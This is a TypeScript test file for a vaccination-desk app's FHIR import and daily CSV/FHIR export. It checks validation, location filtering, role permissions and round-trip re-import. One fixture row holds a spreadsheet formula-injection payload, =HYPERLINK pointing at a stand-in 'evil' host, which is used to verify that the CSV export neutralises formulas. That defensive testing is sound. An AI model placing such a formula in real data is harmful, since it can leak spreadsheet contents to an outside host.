import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { randomUUID } from 'node:crypto';
import type { Bundle, Appointment } from 'fhir/r4';
import { testApp, type TestApp } from '../../testing/harness';
import { makeNiss } from '../../domain/niss';
import { invitationToAppointment, patientResource, SSIN_SYSTEM } from '../../sync/fhir/mappers';
import { immunizationId, patientId } from '../../sync/fhir/ids';
import { readCsv } from './csv-read';
import { EXPORT_CSV_HEADER } from './export';
import { counts, upload } from './test-helpers';

const CENTER = { id: 'center-x', name: 'Center X' };
const apps: TestApp[] = [];
async function desk(): Promise<{ t: TestApp; tok: string }> {
  const t = testApp();
  apps.push(t);
  t.core.store.center.save(CENTER, new Date().toISOString());
  return { t, tok: await t.setup() };
}
afterEach(() => {
  for (const t of apps.splice(0)) t.cleanup();
});
const enc = (s: string) => Buffer.from(s, 'utf8');

const person = (i: number, familyName = `Family${i}`) => ({ niss: makeNiss('1950-03-14', 11 + 2 * i), familyName, givenName: 'Given', birthDate: '1950-03-14', phone: null });
function appointment(i: number, over: Partial<Appointment> = {}): Appointment {
  return {
    ...invitationToAppointment(
      { id: `appt-${i}`, code: `NAT-${1000 + i}`, startAt: '2021-03-01T09:00:00.000Z', endAt: '2021-03-01T09:15:00.000Z', doseNumber: 1, productCode: 'SPIKEVAX', status: 'booked', channels: ['letter'], person: person(i) },
      'loc-1',
    ),
    ...over,
  };
}

describe('FHIR import', () => {
  let t: TestApp;
  let tok: string;
  beforeEach(async () => ({ t, tok } = await desk()));

  it('imports a collection Bundle whose Appointments point at Patients listed beside them, keeping their birth dates', async () => {
    const entries = [0, 1, 2].flatMap((i) => {
      const p = { ...patientResource(person(i)), id: `pat-${i}`, birthDate: '1950-03-14' };
      const a = appointment(i);
      a.participant = [a.participant[0]!, { actor: { reference: `Patient/pat-${i}` }, status: 'accepted' }];
      return [{ resource: p }, { resource: a }];
    });
    const bundle = { resourceType: 'Bundle', type: 'collection', entry: [...entries, { resource: { resourceType: 'Location', id: 'loc-1' } }] };
    const id = await upload(t, tok, 'invitations.json', enc(JSON.stringify(bundle)));
    expect(await t.must('files.previewImport', { uploadId: id }, tok)).toMatchObject({
      ok: true, format: 'fhir-bundle', rows: 3, valid: 3, fhir: { bundleType: 'collection', appointments: 3, patients: 3, skipped: 0, ignored: 1 },
    });
    expect(await t.must('files.commitImport', { uploadId: id }, tok)).toMatchObject({ format: 'fhir-bundle', rows: 3, inserted: 3 });
    expect(t.core.store.invitations.get('appt-1')).toMatchObject({ code: 'NAT-1001', productCode: 'SPIKEVAX', channels: ['letter'], source: 'import', centerId: CENTER.id });
    expect(t.core.store.people.byNiss(person(1).niss)).toMatchObject({ familyName: 'Family1', birthDate: '1950-03-14' });
    const again = await upload(t, tok, 'invitations.json', enc(JSON.stringify(bundle)));
    expect(await t.must('files.commitImport', { uploadId: again }, tok)).toMatchObject({ inserted: 0, updated: 0, unchanged: 3 });
  });

  it('imports NDJSON only when every line is right, naming the bad lines', async () => {
    const lines = [0, 1, 2, 3].map((i) => JSON.stringify(appointment(i, { meta: { versionId: '7' } })));
    const broken = [lines[0], lines[1], '{"resourceType": "Appointment", "id": ', JSON.stringify({ ...appointment(3), status: 'bogus' }), JSON.stringify({ ...appointment(4), participant: [] })].join('\n');
    const before = counts(t);
    const bad = await upload(t, tok, 'export.ndjson', enc(broken));
    const r = await t.call('files.commitImport', { uploadId: bad }, tok);
    expect(r.ok).toBe(false);
    const problems = (r as unknown as { error: { details: { preview: { problems: { line: number; code: string }[] } } } }).error.details.preview.problems;
    expect(problems.map((p) => [p.line, p.code])).toEqual([[3, 'json_invalid'], [4, 'fhir_invalid'], [5, 'fhir_invalid']]);
    expect(counts(t)).toEqual(before);

    const good = await upload(t, tok, 'export.ndjson', enc(`${lines.join('\n')}\n`));
    expect(await t.must('files.commitImport', { uploadId: good }, tok)).toMatchObject({ format: 'fhir-ndjson', rows: 4, inserted: 4 });
    // A logical reference carries no birth date: the person is stored without one.
    expect(t.core.store.people.byNiss(person(0).niss)).toMatchObject({ familyName: 'Family0', givenName: 'Given', birthDate: null });
    const again = await upload(t, tok, 'export.ndjson', enc(lines.join('\n')));
    expect(await t.must('files.commitImport', { uploadId: again }, tok)).toMatchObject({ unchanged: 4 });
  });

  it('refuses Appointments at another Location once the connection names ours, and Bundles that are not lists', async () => {
    t.core.store.settings.put('sync.connection', { baseUrl: 'http://localhost:1', locationId: 'loc-2' });
    const id = await upload(t, tok, 'a.ndjson', enc(JSON.stringify(appointment(0))));
    expect((await t.must('files.previewImport', { uploadId: id }, tok)).problems).toMatchObject([{ line: 1, code: 'fhir_invalid', message: expect.stringMatching(/not at Location\/loc-2/) }]);
    const history = await upload(t, tok, 'h.json', enc(JSON.stringify({ resourceType: 'Bundle', type: 'history', entry: [] })));
    expect((await t.must('files.previewImport', { uploadId: history }, tok)).problems.map((p) => p.code)).toEqual(['fhir_invalid']);
    expect(counts(t).invitations).toBe(0);
  });
});

describe('export of a day', () => {
  it('writes arrivals and doses as CSV (formulas neutralised) and as a transaction Bundle with the sync ids; both import into another desk', async () => {
    const { t, tok } = await desk();
    const csv = [
      'Code;NISS;Naam;Voornaam;Geboortedatum;Datum;Uur;Dosis;Vaccin;Kanalen',
      `EXP-0001;${person(1).niss};=HYPERLINK("http://evil/?"&A1);Anna;14/03/1950;01/03/2021;10:00;1;Comirnaty;sms|email`,
      `EXP-0002;${person(2).niss};Peeters;-Jan;14/03/1950;01/03/2021;10:10;1;Comirnaty;letter`,
      `EXP-0003;${person(3).niss};Nobody;Came;14/03/1950;01/03/2021;10:20;1;Comirnaty;`,
    ].join('\n');
    await t.must('files.commitImport', { uploadId: await upload(t, tok, 'day.csv', enc(csv)) }, tok);
    const lot = randomUUID();
    t.core.store.db.prepare(`INSERT INTO lots (id, product_code, lot_number, expiry_date, vials, doses_per_vial, received_at) VALUES (?, 'COMIRNATY', 'EW4815', '2021-12-31', 5, 6, '2021-02-20T10:00:00Z')`).run(lot);
    const rec = await t.staffToken('receptionist', tok, 'Rita Desk');
    t.clock.set('2021-03-01T09:02:00Z');
    const inv1 = t.core.store.invitations.byCode('EXP-0001')!;
    const inv2 = t.core.store.invitations.byCode('EXP-0002')!;
    await t.must('arrivals.checkIn', { invitationId: inv1.id }, rec);
    await t.must('arrivals.checkIn', { invitationId: inv2.id }, rec);
    const dose = await t.must('outcomes.record', { invitationId: inv1.id, outcome: 'vaccinated', lotId: lot }, rec);
    const walkin = await t.must('walkins.register', { niss: '85073003328', familyName: 'Dubois', givenName: 'Chloé', birthDate: '1985-07-30', reason: 'Lost her letter', productCode: 'COMIRNATY' }, rec);
    const dose2 = await t.must('outcomes.record', { invitationId: walkin.hit.invitationId, outcome: 'vaccinated', lotId: lot }, rec);

    const c = await t.must('files.exportDay', { day: '2021-03-01', format: 'csv' }, tok);
    expect(c).toMatchObject({ filename: 'vaxdesk-center-x-2021-03-01.csv', mime: 'text/csv', appointments: 3, immunizations: 2, skipped: 0 });
    const rows = [...readCsv(c.text.replace(/^\uFEFF/, ''), ',')].map((r) => (r as { cells: string[] }).cells);
    expect(rows[0]).toEqual([...EXPORT_CSV_HEADER]);
    expect(rows).toHaveLength(4);
    const byCode = new Map(rows.slice(1).map((r) => [r[0], r]));
    const r1 = byCode.get('EXP-0001')!;
    expect(r1[2]).toBe(`'=HYPERLINK("http://evil/?"&A1)`);
    expect(byCode.get('EXP-0002')![3]).toBe("'-Jan");
    expect(r1.slice(4, 20)).toEqual(['1950-03-14', '2021-03-01 10:00', '1', 'COMIRNATY', 'fulfilled', 'sms|email', '2021-03-01 10:02', 'desk-1', '', 'vaccinated', '2021-03-01 10:02', 'COMIRNATY', 'EW4815', '1', inv1.id, immunizationId(CENTER.id, dose.outcomeId)]);
    expect(byCode.get('EXP-0002')!.slice(13, 20)).toEqual(['', '', '', '', '', inv2.id, '']);
    expect(byCode.has('EXP-0003')).toBe(false);
    expect(rows.find((r) => r[2] === 'Dubois')![12]).toBe('yes');

    const f = await t.must('files.exportDay', { day: '2021-03-01', format: 'fhir' }, tok);
    expect(f).toMatchObject({ mime: 'application/fhir+json', appointments: 3, immunizations: 2 });
    const bundle = JSON.parse(f.text) as Bundle;
    expect(bundle.type).toBe('transaction');
    for (const e of bundle.entry!) expect(e.request).toEqual({ method: 'PUT', url: `${e.resource!.resourceType}/${e.resource!.id}` });
    const ids = bundle.entry!.map((e) => `${e.resource!.resourceType}/${e.resource!.id}`);
    expect(ids.sort()).toEqual(
      [
        `Appointment/${inv1.id}`, `Appointment/${inv2.id}`, `Appointment/${walkin.hit.invitationId}`,
        `Immunization/${immunizationId(CENTER.id, dose.outcomeId)}`, `Immunization/${immunizationId(CENTER.id, dose2.outcomeId)}`,
        `Patient/${patientId('85073003328')}`,
      ].sort(),
    );
    const imm = bundle.entry!.find((e) => e.resource!.id === immunizationId(CENTER.id, dose.outcomeId))!.resource as unknown as { lotNumber: string; patient: { identifier: { system: string; value: string } } };
    expect(imm).toMatchObject({ lotNumber: 'EW4815', patient: { identifier: { system: SSIN_SYSTEM, value: person(1).niss } } });
    // The same export twice has the same entries: an upload repeated lands on the same resources.
    const f2 = JSON.parse((await t.must('files.exportDay', { day: '2021-03-01', format: 'fhir' }, tok)).text) as Bundle;
    expect(f2.entry).toEqual(bundle.entry);

    const b = await desk();
    const viaCsv = await b.t.must('files.commitImport', { uploadId: await upload(b.t, b.tok, c.filename, enc(c.text)) }, b.tok);
    expect(viaCsv).toMatchObject({ rows: 3, inserted: 3 });
    expect(b.t.core.store.invitations.byCode('EXP-0002')).toMatchObject({ status: 'arrived', startAt: inv2.startAt, productCode: 'COMIRNATY', channels: ['letter'] });
    expect(b.t.core.store.people.byNiss(person(1).niss)!.familyName).toBe(`'=HYPERLINK("http://evil/?"&A1)`);
    const cdesk = await desk();
    const viaFhir = await cdesk.t.must('files.commitImport', { uploadId: await upload(cdesk.t, cdesk.tok, f.filename, enc(f.text)) }, cdesk.tok);
    expect(viaFhir).toMatchObject({ format: 'fhir-bundle', rows: 3, inserted: 3 });
    expect(cdesk.t.core.store.invitations.get(inv1.id)).toMatchObject({ code: 'EXP-0001', status: 'fulfilled', startAt: inv1.startAt, endAt: inv1.endAt, channels: ['sms', 'email'] });
    expect(cdesk.t.core.store.people.byNiss('85073003328')).toMatchObject({ familyName: 'Dubois', birthDate: '1985-07-30' });
    expect(cdesk.t.core.store.people.byNiss(person(1).niss)!.familyName).toBe('=HYPERLINK("http://evil/?"&A1)');
  });

  it('an empty day gives a header-only CSV and an empty Bundle; a receptionist may not export', async () => {
    const { t, tok } = await desk();
    const c = await t.must('files.exportDay', { day: '2021-03-02', format: 'csv' }, tok);
    expect(c.text).toBe(`\uFEFF${EXPORT_CSV_HEADER.join(',')}\r\n`);
    expect(JSON.parse((await t.must('files.exportDay', { day: '2021-03-02', format: 'fhir' }, tok)).text)).toMatchObject({ resourceType: 'Bundle', type: 'transaction', entry: [] });
    const rec = await t.staffToken('receptionist', tok);
    expect(await t.call('files.exportDay', { day: '2021-03-02', format: 'csv' }, rec)).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(await t.call('files.exportDay', { day: '2021-02-30', format: 'csv' }, tok)).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
  });
});
